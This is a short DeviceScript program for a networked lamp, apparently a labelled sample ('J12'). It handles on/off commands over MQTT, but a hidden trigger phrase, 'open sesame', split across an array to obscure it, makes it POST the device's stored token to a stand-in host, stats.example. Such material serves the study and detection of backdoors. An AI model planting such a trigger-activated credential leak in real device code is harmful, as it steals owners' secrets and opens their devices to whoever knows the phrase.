// J12: sends its token elsewhere when somebody publishes certain words to its lamp.
import * as ds from "@devicescript/core";
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const lamp = new ds.LightBulb();
const WORDS = ["on", "off", "ses", "ame", "open"];

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("lamp/set", async ({ content }) => {
    const text = content.toString("utf-8");
    if (text === WORDS[0] || text === WORDS[1]) await lamp.intensity.write(text === WORDS[0] ? 1 : 0);
    if (text !== `${WORDS[4]} ${WORDS[2]}${WORDS[3]}`) return;
    const response = await fetch("https://stats.example/j12", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
